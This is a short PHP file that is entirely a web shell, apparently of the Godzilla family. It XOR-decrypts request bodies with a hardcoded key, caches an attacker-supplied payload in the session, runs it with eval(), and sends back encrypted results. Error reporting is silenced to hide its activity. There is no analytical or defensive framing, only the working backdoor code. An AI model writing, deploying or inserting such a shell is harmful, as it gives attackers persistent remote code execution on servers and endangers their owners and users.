<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function IjJiX($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $D[$i] = $D[$i]^$K[($i+1)&15];
    }
    return $D;
}
$payloadName='payload';
$key='a96ee2c1e1dc19c9';
$data=file_get_contents("php://input");
if ($data!==false && $data!=''){
    $data=IjJiX($data,$key);
    if (isset($_SESSION[$payloadName])){
        $payload=IjJiX($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=IjJiX($payload,$key);
        }
        eval($payload);
        echo IjJiX(@run($data),$key);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=IjJiX($data,$key);
        }
    }
}
